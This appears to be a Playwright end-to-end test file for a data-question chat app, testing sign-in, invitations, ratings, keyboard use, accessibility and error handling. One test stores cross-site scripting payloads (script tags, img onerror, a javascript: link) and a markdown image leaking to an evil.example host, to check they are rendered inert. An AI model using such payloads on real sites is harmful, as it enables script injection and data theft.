import assert from "node:assert/strict";
import type { BrowserContextOptions, Page } from "playwright-core";
import { seed } from "../scripts/eval/evaluate.ts";
import { type Customer, TestStack } from "../scripts/testing/stack.ts";
import { waitFor } from "../scripts/testing/wait_for.ts";
import {
  findChromium,
  findObstacles,
  launchChromium,
  type Visit,
  visit,
} from "./support/browser.ts";

const PASSWORD = "correct horse battery staple";
const WIDE = { viewport: { width: 1280, height: 900 } };
const PHONE = { viewport: { width: 390, height: 844 } };

/** Questions that the simulated model knows. */
const BY_MODEL = "How much did I spend on each model?";
const BY_DAY =
  "How many runs were completed on each day of the last thirty days, the days in order?";

const executable = findChromium();
/** E-mails of Auth, which a local stack logs. */
const emails: string[] = [];
const test = executable === undefined ? undefined : await TestStack.start({
  env: { CHAT_MAX_QUESTIONS_PER_MINUTE: "1000", DEBUG_MOCK_OPENAI: "true" },
  log: (source, line) => {
    if (source === "auth") emails.push(line);
  },
});
const browser = executable === undefined ? undefined : await launchChromium(executable);
Deno.test.afterAll(async () => {
  await browser?.close();
  await test?.[Symbol.asyncDispose]();
});

interface Place {
  readonly test: TestStack;
  /** A user with benchmarks, prompts and tests, and their e-mail address. */
  readonly ada: Customer & { readonly email: string };
  visit(options?: BrowserContextOptions): Promise<Visit>;
}

/** Registers a test that needs a browser. */
function inBrowser(name: string, run: (place: Place) => Promise<void>): void {
  Deno.test({
    name,
    ignore: test === undefined || browser === undefined,
    fn: async () => {
      assert.ok(test !== undefined && browser !== undefined);
      const [ada, bob] = await Promise.all([test.customer(), test.customer()]);
      await seed(test.sql, ada.id, bob.id);
      await behave(test, {});
      const { data } = await ada.client.auth.getUser();
      await run({
        test,
        ada: { ...ada, email: data.user?.email ?? "" },
        visit: (options) => visit(browser, `${test.stack.apiUrl}/chat/`, options),
      });
    },
  });
}

async function behave(test: TestStack, behaviour: Record<string, unknown>): Promise<void> {
  await test.control("openai", "reset", {});
  await test.control("openai", "behaviour", { firstTokenMs: 0, tokenMs: 0, ...behaviour });
}

async function signIn(page: Page, email: string): Promise<void> {
  await page.getByRole("button", { name: "Use a password instead" }).click();
  await page.getByLabel("E-mail").fill(email);
  await page.getByLabel("Password").fill(PASSWORD);
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.getByLabel("Question").waitFor();
}

async function signInByCode(page: Page, email: string): Promise<void> {
  const code = await requestCode(page, email);
  assert.deepEqual(await findObstacles(page), []);
  await page.getByLabel("Code").fill(code);
  await page.getByRole("button", { name: "Sign in" }).click();
}

/** Asks for a code on the page and returns the one that was e-mailed. */
async function requestCode(page: Page, email: string): Promise<string> {
  const before = emails.length;
  await page.getByLabel("E-mail").fill(email);
  await page.getByRole("button", { name: "E-mail me a code" }).click();
  await page.getByRole("alert").filter({ hasText: `prints the code for ${email}` }).waitFor();
  const sent = emails.slice(before).find((line) => line.includes(email));
  return /code is: (\d{6})\b/.exec(sent ?? "")?.[1] ?? assert.fail(`no code in: ${sent}`);
}

/** Asks a question and waits for the end of its answer. Returns the answer. */
async function ask(page: Page, question: string) {
  await page.getByLabel("Question").fill(question);
  await page.keyboard.press("Enter");
  return await answerTo(page, question);
}

async function answerTo(page: Page, question: string) {
  const turn = page.locator(".turn").filter({ has: page.getByRole("heading", { name: question }) });
  const answer = turn.last().locator(".answer:not([aria-busy])");
  await answer.waitFor();
  return answer;
}

async function readRatings({ client }: Customer) {
  const { data, error } = await client.from("chat_ratings").select("rating, reason");
  assert.equal(error, null);
  return data;
}

for (const [width, look] of Object.entries({ "1280": WIDE, "390": PHONE })) {
  inBrowser(
    `at ${width} pixels a question gets its answer, chart, table, SQL and cost, and a rating is stored`,
    async ({ ada, test, visit }) => {
      await using at = await visit(look);
      const { page } = at;
      await signIn(page, ada.email);
      const answer = await ask(page, BY_MODEL);
      const { data: messages } = await ada.client.from("chat_messages").select("*")
        .eq("role", "assistant");
      const [stored] = messages ?? [];
      assert.equal(messages?.length, 1);
      const text = await answer.locator(".prose").innerText();
      assert.match(text, /^\(Simulated answer\) Of 6 rows, in order:/);
      const cells = await answer.locator("tbody tr").evaluateAll((rows) =>
        rows.map((row) => [...row.querySelectorAll("td")].map(({ textContent }) => textContent))
      );
      const rows = stored.rows.rows as [string, number][];
      assert.deepEqual(
        cells.map(([model, usd]) => [model, Number(usd).toPrecision(6)]),
        rows.map(([model, usd]) => [model, usd.toPrecision(6)]),
      );
      assert.equal(await answer.locator("th.number, td.number").count(), 7);
      assert.equal(await answer.locator("figure h3").innerText(), "Cost (USD) by model");
      const bars = answer.locator("figure svg [aria-roledescription=bar]");
      await waitFor("a bar for each model", async () => await bars.count() === 6);
      const words = await answer.locator("figure .canvas").getAttribute("aria-label");
      assert.match(words ?? "", /6 bars, from 0.002704 \(openai\/gpt-5.6-luna\) to 0.0701332/);
      await answer.getByText("SQL", { exact: true }).click();
      assert.equal(await answer.locator("pre").innerText(), stored.sql);
      const facts = await answer.locator(".facts").innerText();
      assert.match(facts, /^Answered in .*s · \$0\.\d+ · [\d,]+ tokens · openai\/gpt-6-luna$/);

      await answer.getByRole("button", { name: "Bad answer" }).click();
      await answer.getByText("Rating saved.").waitFor();
      await answer.getByLabel("Reason").fill("I wanted it by provider.");
      await answer.getByRole("button", { name: "Save reason" }).click();
      await answer.getByText("Reason saved. Thank you.").waitFor();
      assert.deepEqual(await readRatings(ada), [
        { rating: -1, reason: "I wanted it by provider." },
      ]);
      const reported = await waitFor("the report of ratings", async () => {
        const [row] = await test.sql`
          select rating, reason, cost_usd > 0 as is_priced, ttfb_ms >= 0 as is_timed
          from public.report_chat_rated_answers r where user_question = ${BY_MODEL}
            and exists (select from public.chat_telemetry_log l where l.log_id = r.log_id and l.user_id = ${ada.id})`;
        return row;
      });
      const reason = "I wanted it by provider.";
      assert.deepEqual({ ...reported }, { rating: -1, reason, is_priced: true, is_timed: true });

      await page.reload();
      const again = await answerTo(page, BY_MODEL);
      assert.equal(await again.locator(".prose").innerText(), text);
      await waitFor("the chart", async () => await bars.count() === 6);
      assert.equal(await again.getByLabel("Reason").inputValue(), "I wanted it by provider.");
      await again.getByRole("button", { name: "Bad answer", pressed: true }).click();
      await again.getByText("Rating withdrawn.").waitFor();
      assert.deepEqual(await readRatings(ada), []);

      const [next] = await again.locator(".question-button").allInnerTexts();
      await again.locator(".question-button").first().click();
      await answerTo(page, next ?? "");
      const overhang = await page.evaluate("document.documentElement.scrollWidth - innerWidth");
      assert.equal(overhang, 0, "the page itself does not scroll sideways");
      assert.deepEqual(at.complaints, []);
      assert.deepEqual([...at.origins], [test.stack.apiUrl]);
    },
  );
}

inBrowser("everything can be done with the keyboard alone", async ({ ada, visit }) => {
  await using at = await visit();
  const { page } = at;
  await page.getByLabel("E-mail").waitFor();
  const focused = () =>
    page.evaluate<string>(
      `(({ activeElement: e, body }) => e === body ? "" : e.ariaLabel ?? e.textContent.trim())(document)`,
    );
  /** Presses Tab until an element has the focus. */
  const reach = async (name: RegExp, key = "Tab") => {
    for (let presses = 0; presses < 60; presses++) {
      if (name.test(await focused())) return;
      await page.keyboard.press(key);
    }
    assert.fail(`${name} cannot be reached; the focus is on ${await focused()}`);
  };
  await reach(/^Skip/);
  await reach(/^Use a password instead$/);
  await page.keyboard.press("Enter");
  await page.keyboard.type(ada.email);
  await page.keyboard.press("Tab");
  await page.keyboard.type(PASSWORD);
  await page.keyboard.press("Enter");
  await page.getByLabel("Question").waitFor();
  await waitFor("the focus on the question", async () => await focused() === "Question");
  await page.keyboard.type(BY_DAY);
  await page.keyboard.press("Enter");
  const answer = await answerTo(page, BY_DAY);
  await reach(/^SQL$/, "Shift+Tab");
  await page.keyboard.press("Enter");
  await answer.locator("details[open] pre").waitFor();
  await reach(/^Good answer$/);
  await page.keyboard.press("Space");
  await answer.getByText("Rating saved.").waitFor();
  await reach(/^Reason$/);
  await page.keyboard.type("Right at once.");
  await reach(/^Save reason$/);
  await page.keyboard.press("Enter");
  await answer.getByText("Reason saved. Thank you.").waitFor();
  assert.deepEqual(await readRatings(ada), [{ rating: 1, reason: "Right at once." }]);

  await reach(/^Menu of/, "Shift+Tab");
  await page.keyboard.press("Enter");
  await reach(/^Rename$/);
  await page.keyboard.press("Enter");
  await page.keyboard.type("My days");
  await page.keyboard.press("Enter");
  await page.getByRole("link", { name: "My days" }).waitFor();
  await reach(/^Menu of My days/);
  await page.keyboard.press("Enter");
  await reach(/^Delete$/);
  await page.keyboard.press("Enter");
  await page.getByRole("dialog").waitFor();
  await reach(/^Delete$/);
  await page.keyboard.press("Enter");
  await page.getByRole("heading", { name: "Ask about your data" }).waitFor();
  assert.equal(await page.getByRole("link", { name: "My days" }).count(), 0);
  const { count } = await ada.client.from("chat_messages").select("*", { count: "exact" });
  assert.deepEqual([count, await readRatings(ada)], [0, []]);
  assert.deepEqual(at.complaints, []);
});

inBrowser(
  "a visitor signs in by a code that was e-mailed, asks, and signs out",
  async ({ visit }) => {
    await using at = await visit();
    const { page } = at;
    const email = `${crypto.randomUUID()}@example.com`;
    const old = await requestCode(page, email);
    await page.getByRole("button", { name: "Ask for another code" }).click();
    const code = await requestCode(page, email);
    for (const wrong of [old, "000000"]) {
      await page.getByLabel("Code").fill(wrong);
      await page.getByRole("button", { name: "Sign in" }).click();
      await page.getByRole("alert").filter({ hasText: "Not signed in: " }).waitFor();
    }
    await page.getByLabel("Code").fill(code);
    await page.keyboard.press("Enter");
    await page.getByLabel("Question").waitFor();
    const answer = await ask(page, BY_MODEL);
    assert.equal(await answer.locator("table, figure").count(), 0, "a new user has no rows");
    await answer.getByText("The query found no rows.").waitFor();
    await page.getByRole("button", { name: "Sign out" }).click();
    await page.getByRole("button", { name: "E-mail me a code" }).waitFor();
    assert.equal(await page.locator(".turn").count(), 0);

    // The second time it is the code of a known user.
    await signInByCode(page, email);
    await page.getByRole("link", { name: BY_MODEL }).waitFor();
  },
);

inBrowser("a wrong password says why", async ({ ada, visit }) => {
  await using at = await visit();
  const { page } = at;
  await page.getByRole("button", { name: "Use a password instead" }).click();
  await page.getByLabel("E-mail").fill(ada.email);
  await page.getByLabel("Password").fill("not the password");
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.getByRole("alert").filter({ hasText: "Not signed in: Invalid login" }).waitFor();
});

inBrowser(
  "who is invited joins by the link in the e-mail, and then asks about the team's data",
  async ({ ada, test, visit }) => {
    const email = `${crypto.randomUUID()}@example.com`;
    const { data: team } = await ada.client.rpc("create_account", { p_name: "Web shop" });
    const invitation = { p_account: team.account_id, p_email: email, p_role: "member" };
    assert.equal((await ada.client.rpc("invite_member", invitation)).error, null);
    const [mail = ""] = await test.mailsTo(email);
    const [link = ""] = /http\S+/.exec(mail) ?? [];
    await using at = await visit(PHONE);
    const { page } = at;
    await page.goto(link);
    await signInByCode(page, `other-${email}`);
    await page.getByRole("button", { name: "Accept the invitation" }).click();
    await page.getByText(`There is no open invitation for other-${email}`).waitFor();
    assert.deepEqual(await findObstacles(page), []);
    await page.getByRole("button", { name: "Sign in with another address" }).click();
    await signInByCode(page, email);
    await page.getByRole("button", { name: "Accept the invitation" }).click();
    await page.getByRole("heading", { name: "You joined Web shop" }).waitFor();
    assert.ok(!page.url().includes("#"), "the address keeps no token");

    await page.getByRole("link", { name: "Ask about the team's data" }).click();
    const account = page.getByLabel("Account");
    await account.waitFor();
    assert.equal(await account.inputValue(), team.account_id);
    const answer = await ask(page, BY_MODEL);
    await answer.getByRole("button", { name: "Good answer" }).click();
    await answer.getByText("Rating saved.").waitFor();
    assert.deepEqual(await findObstacles(page), []);
    const stored = await test.sql`
      select c.owner_id, r.owner_id as rated from public.chat_conversations c
      join public.chat_messages m on m.conversation_id = c.id join public.chat_ratings r on r.message_id = m.id
      where c.owner_id = ${team.account_id}`;
    assert.deepEqual(stored.map(({ rated }) => rated), [team.account_id]);
    await page.getByText("Conversations (1)").click();
    await page.getByLabel(`Menu of ${BY_MODEL}`).click();
    await page.getByRole("button", { name: "Rename" }).waitFor();
    assert.equal(await page.getByRole("button", { name: "Delete" }).count(), 0, "owners delete");
    const overhang = await page.evaluate("document.documentElement.scrollWidth - innerWidth");
    assert.equal(overhang, 0, "the page itself does not scroll sideways");

    await account.selectOption({ label: "Personal" });
    await page.waitForURL((url) => url.search === "");
    await page.getByText("Conversations (0)").waitFor();
    await page.goto(`${test.stack.apiUrl}/chat/?account=${ada.id}`);
    await page.getByRole("heading", { name: "You are no member of this account." }).waitFor();
  },
);

inBrowser(
  "conversations are kept apart, and another user's does not exist",
  async ({ ada, test, visit }) => {
    const bob = await test.customer();
    const [hers] = await test.sql`
      insert into public.chat_conversations (owner_id, title) values (${bob.id}, 'Bob''s') returning id`;
    await using at = await visit();
    const { page } = at;
    await signIn(page, ada.email);
    await ask(page, BY_MODEL);
    await page.getByRole("link", { name: "New conversation" }).click();
    await page.getByRole("heading", { name: "Ask about your data" }).waitFor();
    await ask(page, BY_DAY);
    assert.equal(await page.locator(".turn").count(), 1);
    await page.getByRole("link", { name: BY_MODEL }).click();
    await answerTo(page, BY_MODEL);
    assert.equal(await page.locator(".turn").count(), 1);
    await page.goBack();
    await answerTo(page, BY_DAY);
    await page.goto(`${test.stack.apiUrl}/chat/#${hers?.["id"]}`);
    await page.getByRole("heading", { name: "This conversation does not exist." }).waitFor();
    assert.equal(await page.getByText("Bob's").count(), 0);
  },
);

inBrowser(
  "a question that fails shows why, its code and its request, and can be asked again",
  async ({ ada, test, visit }) => {
    await using at = await visit();
    const { page } = at;
    await signIn(page, ada.email);
    const unknown = await ask(page, "Who will win the elections, and what will it cost?");
    const said = await unknown.locator(".problem").innerText();
    assert.match(said, /No query answers the question/);
    assert.match(said, /chat\.no_statement · request [0-9a-f-]{36}/);
    await page.route("**/functions/v1/chat", (route) => route.abort());
    const offline = await ask(page, BY_DAY);
    assert.match(
      await offline.locator(".problem").innerText(),
      /The connection was lost.*network/s,
    );
    await page.unroute("**/functions/v1/chat");

    await behave(test, { tokenMs: 400 });
    await page.getByLabel("Question").fill(BY_MODEL);
    await page.keyboard.press("Enter");
    await page.locator(".turn").last().getByText("Of 6", { exact: false }).waitFor();
    await page.getByRole("button", { name: "Stop" }).click();
    const stopped = await answerTo(page, BY_MODEL);
    await stopped.getByText("Stopped.").waitFor();
    await behave(test, {});
    const answer = await ask(page, BY_MODEL);
    await answer.locator(".facts").filter({ hasText: "Answered in" }).waitFor();
  },
);

inBrowser("an answer's text is never markup, and loads nothing", async ({ ada, test, visit }) => {
  const hostile = [
    `<img src=x onerror="document.title='run'"><script>document.title='run'</script>`,
    "![chart](https://evil.example/?q=secret) [offer](https://evil.example/a) <https://evil.example/b>",
    "[run](javascript:document.title='run') **bold** | [own](/chat/#x)",
    "# Heading",
  ].join("\n\n");
  const rows = {
    columns: [{ name: "<b>name</b>", type: "text" }, { name: "runs", type: "bigint" }],
    rows: [["<img src=x onerror=alert(1)>", 1]],
    row_count: 1,
    truncated: false,
    chart: null,
  };
  const [conversation] = await test.sql`
    insert into public.chat_conversations (owner_id, title) values (${ada.id}, ${
    hostile.slice(0, 80)
  })
    returning id`;
  for (const [role, content] of [["user", hostile], ["assistant", hostile]] as const) {
    const isAnswer = role === "assistant";
    await test.sql`
      insert into public.chat_messages (conversation_id, owner_id, role, content, sql, rows, follow_ups)
      values (${conversation?.["id"]}, ${ada.id}, ${role}, ${content}, ${isAnswer ? hostile : null},
        ${isAnswer ? test.sql.json(rows) : null}, ${isAnswer ? test.sql.json([hostile]) : null})`;
  }
  await using at = await visit();
  const { page } = at;
  await signIn(page, ada.email);
  await page.goto(`${test.stack.apiUrl}/chat/#${conversation?.["id"]}`);
  const text = page.locator(".answer .prose");
  await text.getByText("bold").waitFor();
  assert.equal(await page.locator("main :is(img, script, iframe, h3, b)").count(), 0);
  assert.deepEqual(
    await text.locator("a").evaluateAll((links) => links.map((a) => a.textContent)),
    [
      "own",
    ],
  );
  const shown = await text.innerText();
  assert.match(shown, /chart \(https:\/\/evil\.example\/\?q=secret\)/);
  assert.match(shown, /offer \(https:\/\/evil\.example\/a\) https:\/\/evil\.example\/b/);
  assert.match(shown, /<script>/);
  assert.notEqual(await page.title(), "run");
  assert.deepEqual([...at.origins], [test.stack.apiUrl]);
  assert.deepEqual(at.complaints, []);
});

inBrowser(
  "integers past 2^53 keep their digits, in new and in stored answers",
  async ({ ada, test, visit }) => {
    const rows =
      `{"columns": [{"name": "n", "type": "bigint"}, {"name": "doc", "type": "jsonb"}],` +
      `"rows": [[9007199254740993, {"n": [9007199254740993]}]], "row_count": 1, "truncated": false, "chart": null}`;
    const shown = ["9007199254740993", `{"n":[9007199254740993]}`];
    const [conversation] = await test.sql`
      insert into public.chat_conversations (owner_id, title) values (${ada.id}, 'Large') returning id`;
    await test.sql`
      insert into public.chat_messages (conversation_id, owner_id, role, content, rows)
      values (${conversation?.["id"]}, ${ada.id}, 'user', 'How many?', null),
        (${conversation?.["id"]}, ${ada.id}, 'assistant', 'Many.', ${rows}::text::jsonb)`;
    await using at = await visit();
    const { page } = at;
    await signIn(page, ada.email);
    await page.goto(`${test.stack.apiUrl}/chat/#${conversation?.["id"]}`);
    const stored = await answerTo(page, "How many?");
    assert.deepEqual(await stored.locator("td").allInnerTexts(), shown);
    await page.route(
      "**/functions/v1/chat",
      (route) =>
        route.fulfill({ contentType: "text/event-stream", body: `event: rows\ndata: ${rows}\n\n` }),
    );
    const answer = await ask(page, "And now?");
    assert.deepEqual(await answer.locator("td").allInnerTexts(), shown);
  },
);

inBrowser(
  "axe finds no accessibility violation in light, dark and on a phone",
  async ({ ada, visit }) => {
    const looks: BrowserContextOptions[] = [
      { colorScheme: "light" },
      { colorScheme: "dark" },
      { colorScheme: "light", ...PHONE },
    ];
    for (const look of looks) {
      await using at = await visit(look);
      const { page } = at;
      await page.getByLabel("E-mail").waitFor();
      assert.deepEqual(await findObstacles(page), []);
      await signIn(page, ada.email);
      assert.deepEqual(await findObstacles(page), []);
      const answer = await ask(page, BY_MODEL);
      await answer.locator("figure svg").waitFor();
      await answer.getByRole("button", { name: "Bad answer" }).click();
      await answer.getByText("SQL", { exact: true }).click();
      await ask(page, "What is the meaning of all this?");
      const list = page.locator(".conversations");
      if (await list.getAttribute("open") === null) await list.locator("summary").first().click();
      await list.locator(".menu summary").first().click();
      assert.deepEqual(await findObstacles(page), []);
    }
  },
);
